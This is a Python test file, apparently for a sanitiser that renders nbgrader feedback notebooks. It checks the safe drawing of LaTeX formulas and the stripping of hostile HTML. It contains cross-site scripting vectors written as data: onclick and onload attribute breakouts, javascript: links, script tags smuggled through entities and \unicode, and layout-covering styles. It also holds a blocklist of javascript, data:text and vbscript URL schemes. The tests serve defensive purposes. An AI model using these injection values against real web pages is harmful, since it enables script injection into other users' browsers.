        notes=["repaired: explain was missing", "repaired: explain was missing"],
        provenance={**provenance, "seed": 17, "submission": "ab12" * 16},
    )
    comment = verdict(html).find(class_="comment")
    assert comment.strong.text == "Comment" and comment.math["alttext"] == "x^2"
    text = text_of(html)
    assert "Neat." in text and text.count("explain was missing") == 1
    rows = {
        row.th.text: row.td.text for row in BeautifulSoup(html, "html.parser").select(".how tr")
    }
    assert rows == {
        "limits: cell seconds": "30.0",
        "limits: memory": "2 GiB",
        "enforced: landlock": "yes",
        "seed": "17",
        "submission": "ab12ab12ab12",
    }


FORMULAS = {
    "inline": ("The slope $f'(x) < 1$ here", "f'(x) < 1", "f′(x)<1"),
    "displayed": ("As in\n\n$$\\sum_i x_i < \\infty$$\n\nso", "\\sum_i x_i < \\infty", "∑ixi<∞"),
    "beside HTML": ("<b>So</b> $x^2$", "x^2", "x2"),
    "in a table": ("| a |\n|---|\n| $\\frac{1}{n}$ |", "\\frac{1}{n}", "1n"),
    "in lines": ("$\\begin{aligned}a&=b\\\\c&=d\\end{aligned}$", None, "a=bc=d"),
    "text with a tag": ("$\\text{<b onclick=pwned()>}$", None, "<b\xa0onclick=pwned()>"),
    "text with an entity": ("$\\text{&lt;script&gt;}$", None, "<script>"),
    "letter by its number": ("$\\unicode{x3c}script$", None, "<script"),
    "link": ("$\\href{javascript:pwned()}{x}$", None, "x"),
    "style": ("$\\style{position:fixed}{x}\\class{badge}{y}$", None, "xy"),
    "cover": ("$\\hspace{-100em}\\raise{90em}{10}$", None, "10"),
    "big braces": (r"$\big\{x\big\} \Bigl\|y\Bigr\|$", None, "{x}‖y‖"),
    "percent in text": (r"$\text{100\% of a\_b}$", None, "100%\xa0of\xa0a_b"),
    "word in text": (r"$\text{aligned}$", None, "aligned"),
    "wide lines": (r"$\begin{pmatrix}1\\[2pt]2\end{pmatrix}$", None, "(12)"),
    "transposed": (r"$\begin{bmatrix}1&2\end{bmatrix}^T$", None, "[12]T"),
    "letter without braces": (r"$\mathbb R^n\mathcal L\mathbb{ R }\Bbb{R}$", None, "ℝnℒℝℝ"),
    "letters of a font": (r"$\mathcal{KL}\mathscr{L}\mathbb{1}$", None, "𝒦ℒℒ𝟙"),
    "best argument": (r"$\arg\max_x \operatorname*{arg\,min}_y$", None, "argmaxxarg\u2009miny"),
    "distribution": (r"$x\sim y\not\sim z$", None, "x∼y≁z"),
    "box": (r"$\boxed{x}$", None, "x"),
    "colour with a quote": ('$\\textcolor{red" onload="pwned()}{x}$', None, "x"),
}
UNDRAWN = {
    "broken": "\\frac{x",
    "unknown word": "\\shrug{x}",
    "stray mark": "a & b",
    "macro": "\\def\\a{xx}\\newcommand{\\b}{\\a\\a} \\b",
    "too deep": "{" * 900 + "}" * 90,
    "too long": "x + " * 300 + "x",
    "direction by its number": r"\unicode{x202E}abc",
    "direction by its entity": r"\text{&#x202E;abc}",
    "invisible by its entity": r"a\text{&#x200B;}b",
    "struck out": r"\cancel{x} + y",
    "bar in a table": r"\begin{array}{c|c} 1 & 2 \end{array}",
    "line in a table": r"\begin{matrix} 1 \\ \hline 2 \end{matrix}",
    "unknown environment": r"\begin{shrugs} x \end{shrugs}",
    "brackets that are lost": r"\begin{pmatrix*} x \end{pmatrix*}",
    "bar": r"\rule{1em}{1em} x",
    "letter that is in no font": r"\mathbb{\Gamma}",
    "letters of an old font": r"{\cal L}",
    "braces in text": r"\text{\{x\}}",
    "unknown fence": r"\big\shrug",
    "operator with a sign": r"\operatorname{top-k}(x)",
}


@pytest.mark.parametrize("name", FORMULAS)
def test_formulas_are_drawn_and_can_do_no_more(name):
    text, tex, drawn = FORMULAS[name]
    html = shown(notebook(markdown(text, "m")))
    math = BeautifulSoup(html, "html.parser").math
    assert math.text == drawn and math["alttext"] == (tex or text.strip("$"))
    for element in math.find_all(True):
        assert element.name in formulas.TAGS
        for attribute, value in element.attrs.items():
            assert attribute in formulas.WORDS | formulas.LENGTHS and "00em" not in value
    assert not dangers(in_boxes(html))


@pytest.mark.parametrize("name", UNDRAWN)
def test_formulas_that_cannot_be_drawn_stay_as_they_were_typed(name):
    tex = UNDRAWN[name]
    nb = notebook(markdown(f"so ${tex}$ is\n\n$$\n{tex}\n$$", "m"))
    soup = BeautifulSoup(shown(nb), "html.parser")
    assert soup.var.text == soup.samp.text == tex.strip() and not soup.math


def test_many_formulas_of_one_text_stay_as_they_were_typed():
    text = "".join(f"$x_{{{number}}}$ " for number in range(1000))
    soup = BeautifulSoup(shown(notebook(markdown(text, "m"))), "html.parser")
    assert len(soup.find_all("math")) + len(soup.find_all("var")) == 1000
    assert 500 < len(soup.find_all("math")) < 800


@pytest.mark.parametrize(
    "text, shown_as, formulas_in_it",
    [
        ("use $HOME and $PATH here", "use $HOME and $PATH here", 0),
        ("it costs $a and then $b more", "it costs $a and then $b more", 0),
        ("from $20 to $30", "from $20 to $30", 0),
        (r"costs \$5 and \$6", "costs $5 and $6", 0),
        ("`$x$` is code", "$x$ is code", 0),
        ("$$ x $$ and $y$", "x and y", 2),
        ("$$x$$ and $$y$$", "x and y", 2),
        ("$$\nx $ y\n$$", "x $ y", 0),
        (r"for $a\$b$, $c$", "for a$b, c", 2),
    ],
)
def test_a_dollar_is_no_formula_by_itself(text, shown_as, formulas_in_it):
    for more in ("", "<b></b>\n\n"):
        html = shown(notebook(markdown(more + text, "m")))
        box = BeautifulSoup(html, "html.parser").select_one(".prose")
        assert box.text.strip() == shown_as and len(box.find_all("math")) == formulas_in_it


@pytest.mark.parametrize(
    "unit", ["$", "$`a", "$a ", "$$", "$x$", "\\$", "$" + "`" * 28_999, "$$x\n"]
)
def test_a_flood_of_dollars_ends(unit):  # what backtracks over the last but one takes days
    html = markdown_html(unit * (29_000 // len(unit)) + "a")
    assert BeautifulSoup(html, "html.parser").text.strip().endswith("a")


def test_formulas_of_an_output_stay_tex():
    output = display(text_markdown="Loss $x^2$\n\n$$\n\\frac{a}{b}\n$$\n\n<b>so</b>")
    soup = BeautifulSoup(shown(notebook(cell_with(output))), "html.parser")
    assert soup.var.text == "x^2" and soup.samp.text == "\\frac{a}{b}" and not soup.math
    nb = notebook(cell_with(output))
    sanitise_outputs(nb)
    assert "<var>x^2</var>" in nb["cells"][0]["outputs"][0]["data"]["text/html"]


def test_the_formulas_of_a_page_are_bounded():
    texts = [f"{number} $x$ " + "word " * 990 for number in range(80)]
    soup = BeautifulSoup(shown(notebook(*map(markdown, texts, texts))), "html.parser")
    assert [len(soup.find_all(kind)) for kind in ("math", "var")] == [40, 40]


def test_comments_are_bounded_and_come_before_what_fills_the_page():
    scores = {f"t{number}": {"score": 1, "points": 1} for number in range(200)}
    comments = {key: f"{key} " + "word " * 1900 for key in scores}
    html = shown(notebook(), scores, comments=comments)
    assert len(html) < 1_600_000 and html.count("page is full") > 80
    big = [markdown(f"{number} " + "word " * 5900, f"m{number}") for number in range(50)]
    html = shown(notebook(*big), points(1), comments={"test-double": "Well put: $x^2$."})
    assert "page is full" in html and "Well put: <math" in html


IN_ATTRIBUTES = {
    "address": '<a href="http://e.com/<svg "></svg>$x$<svg x="</svg>">click</a>',
    "host": '<a href="http://e.com.<svg "></svg>$x$<svg x="</svg>">click</a>',
    "style": '<table><tr><td style="text-align:\n\n$x$ <b id="foo">zz',
    "alignment": '<p align="<svg "></svg>$x$<svg x="</svg>"> after',
    "words of an image": '<img src="data:image/png;base64,PNG" alt="<svg "></svg>$x$'
    '<svg x="</svg>">',
}


@pytest.mark.parametrize("text", IN_ATTRIBUTES.values(), ids=IN_ATTRIBUTES)
def test_no_formula_is_drawn_in_an_attribute(text):
    html = markdown_html(text.replace("PNG", png()))
    for _, attributes in elements(html):
        assert not [value for value in attributes.values() if "<" in value or "drawn" in value]
    assert '"<' not in html and not re.search("drawn[0-9a-f]{16}", html)


@pytest.mark.parametrize("more", ["", "<b>x</b>"])
def test_a_mark_of_ones_own_stays_as_it_is(more, monkeypatch):
    marks = ("drawn0123456789abcdef-0-", "drawn0123456789abcdef-7-")
    html = markdown_html("$x$ " + " ".join(marks) + more)
    assert html.count("<math") == 1 and all(mark in html for mark in marks)
    monkeypatch.setattr("secrets.token_hex", lambda size: "0123456789abcdef")
    assert marks[1] in markdown_html("$y$ " + marks[1] + more)


def test_what_is_too_deep_for_a_page_is_shown_as_it_was_typed():
    text = "<div>" * 70 + "\n\n$x$ and\n"
    assert BeautifulSoup(markdown_html(text), "html.parser").pre.text == text


def test_bold_letters_are_bold_and_formulas_have_no_scroll_bars():
    style = BeautifulSoup(shown(notebook()), "html.parser").style.text
    assert "math [mathvariant^=bold] { font-weight: bold; }" in style
    assert "overflow" not in re.search(r"math\[display=block\] \{[^}]*\}", style)[0]


def test_a_formula_in_the_words_of_an_image_is_left_out():
    image = f"![so $x^2$](data:image/png;base64,{png()})"
    for more in ("", " <b>x</b>"):
        soup = BeautifulSoup(shown(notebook(markdown(image + more, "m"))), "html.parser")
        assert soup.img["alt"] == "so " and not soup.math


@pytest.mark.parametrize("stem", STEMS)
def test_every_formula_of_the_course_is_drawn(stem):
    nb = json.loads(notebook_path("solutions", stem).read_text(encoding="utf-8"))
    texts = [cell for cell in nb["cells"] if cell["cell_type"] == "markdown"]
    soup = BeautifulSoup(shown(notebook(*texts), show_hidden_tests=True), "html.parser")
    assert soup.math and not soup.find_all(["var", "samp"])


def test_a_dollar_before_a_tag_is_no_danger_to_other_pages():
    assert harmless_markdown("$a<b$") == "$a< b$"


def test_the_notebook_itself_is_not_changed():
    nb = graded(stream("x\n" * 9), display(text_html="<script>1</script>", image_png=png()))
    before = json.dumps(nb)
    shown(nb, points(1))
    assert json.dumps(nb) == before


# --- nbgrader's own pages ---


BENT = '9" onload="pwned()'


def test_nbgraders_template_gets_safe_notebooks():
    from nbconvert.exporters import HTMLExporter

    from safegrade.feedback.export import SafeFeedback, SanitiseOutputs

    def rendered(nb):
        html, _ = HTMLExporter(template_name="classic").from_notebook_node(from_dict(nb))
        return html

    vectors = [*VECTORS.values(), *LINKS.values()]
    cells = [markdown(vector, f"m{i}") for i, vector in enumerate(vectors)]
    nb = graded(failure("AssertionError", HIDDEN, f"--> 4 {HIDDEN}"))
    nb["cells"] += cells
    nb["cells"] += [
        cell_with(
            display(text_html=vector, **{"application_javascript": "pwned()"}),
            display(text_markdown=vector),
            display(**{"image_svg+xml": SVG.format(vector)}),
            {**display(image_png=png()), "metadata": {"image/png": {"width": BENT}}},
            name=f"c{i}",
        )
        for i, vector in enumerate(vectors)
    ]
    raw = {"cell_type": "raw", "id": "raw", "source": VECTORS["script"]}
    nb["cells"].append({**raw, "metadata": {"raw_mimetype": "text/html"}})
    nb["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {}}}
    assert "pwned" in str(BeautifulSoup(rendered(nb), "html.parser").find_all("script"))
    nb["metadata"]["language_info"] = {"name": "python", "pygments_lexer": '"><script>pwned()'}

    empty = BeautifulSoup(rendered(notebook()), "html.parser")
    safe, _ = SanitiseOutputs().preprocess(from_dict(copy.deepcopy(nb)), {})
    assert HIDDEN in json.dumps(safe), "formgrader shows the tests to the teacher"
    safe, _ = SafeFeedback().preprocess(safe, {})
    soup = BeautifulSoup(rendered(safe), "html.parser")
    for name in ("script", "iframe", "object", "embed", "base", "form", "link", "svg", "meta"):
        assert len(soup.find_all(name)) == len(empty.find_all(name)), name
    body = soup.body
    assert not [a for tag in body.find_all(True) for a in tag.attrs if a.startswith("on")]
    for tag in body.find_all(href=True):
        assert not tag["href"].lower().strip().startswith(("javascript", "data:text", "vbscript"))
    assert HIDDEN not in soup.get_text() and "check(double(3), 6)" in soup.get_text()


# --- pages that are written anew ---


def written_anew(texts, **scores):
    """Return the result of a feedback job; only `slopes` is in the material."""
    cell = ["test-double", "code", TEST, "", True, False, False, True, 3.0]
    material = {"notebooks": {"slopes": {"cells": [cell]}}, "settings": {"show_hidden_tests": 0}}
    job = {"assignment": "slopes", "student": "ada", "scores": scores, "notes": [], "origin": {}}
    job |= {"texts": texts, "enforced": {}, "standing": {"comments": {}, "grades": {}}}
    return feedback_unit({**job, "material": material})


@pytest.mark.parametrize(
    "score, texts, gone",
    [(3.0, {}, True), (0.0, {}, False), (3.0, {"slopes": json.dumps(graded())}, False)],
)
def test_a_page_says_when_the_autograded_notebook_is_gone(score, texts, gone):
    result = written_anew(texts, slopes={"test-double": [score, 3.0, False]})
    note = "the autograded slopes.ipynb is gone; grade it again with --force"
    assert result["notes"] == [note] * gone
    assert (note in text_of(result["pages"]["slopes"])) is gone


def test_a_notebook_that_left_the_material_costs_no_other_page():
    texts = {name: json.dumps(graded()) for name in ("slopes", "left")}
    told = {"test-double": [3.0, 3.0, False]}
    result = written_anew(texts, left=told, slopes=told)
    assert result["pages"]["left"] is None and "full marks" in result["pages"]["slopes"]
    assert result["notes"] == ["no feedback on left: KeyError: 'left'"]
